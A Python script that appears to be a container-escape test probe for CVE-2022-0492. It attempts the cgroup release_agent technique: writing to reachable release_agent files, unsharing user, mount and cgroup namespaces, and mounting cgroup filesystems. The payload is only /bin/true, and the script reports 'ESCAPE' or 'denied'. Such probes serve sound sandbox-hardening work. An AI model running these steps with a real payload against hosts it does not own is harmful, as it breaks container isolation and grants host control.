"""CVE-2022-0492: mount cgroup v1 from a user namespace and set release_agent.

Also tries cgroup2, and any release_agent already reachable under /sys.
"""

import ctypes
import glob
import os
import sys

CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUSER = 0x00020000, 0x02000000, 0x10000000

libc = ctypes.CDLL(None, use_errno=True)


def escape(what: str) -> None:
    print(f"ESCAPE: {what}", flush=True)
    sys.exit(77)


def error() -> str:
    return os.strerror(ctypes.get_errno())


def try_write(path: str, text: str) -> None:
    try:
        with open(path, "w") as f:
            f.write(text)
    except OSError as exc:
        print(f"denied: write {path}: {exc.strerror}")
    else:
        escape(f"wrote {text!r} to {path}")


def main() -> None:
    print("probe: start", flush=True)
    for path in [*glob.glob("/sys/fs/cgroup/*/release_agent"), "/sys/fs/cgroup/release_agent"]:
        try_write(path, "/bin/true")
    for flags, what in (
        (0, "no new namespace"),
        (CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP, "user+mount+cgroup namespaces"),
    ):
        if flags and libc.unshare(flags) != 0:
            print(f"denied: unshare {what}: {error()}")
            continue
        target = f"/tmp/cg-{os.getpid()}-{flags}"
        os.makedirs(target, exist_ok=True)
        for fstype, options in (
            ("cgroup", "rdma"),
            ("cgroup", "memory"),
            ("cgroup", "none,name=escape"),
            ("cgroup2", None),
        ):
            rc = libc.mount(
                b"cgroup", target.encode(), fstype.encode(), 0, options and options.encode()
            )
            if rc == 0:
                try_write(f"{target}/release_agent", "/bin/true")
                escape(f"mounted {fstype} ({options}) with {what}")
            print(f"denied: mount {fstype} ({options}) with {what}: {error()}")


main()
print("probe: done", flush=True)
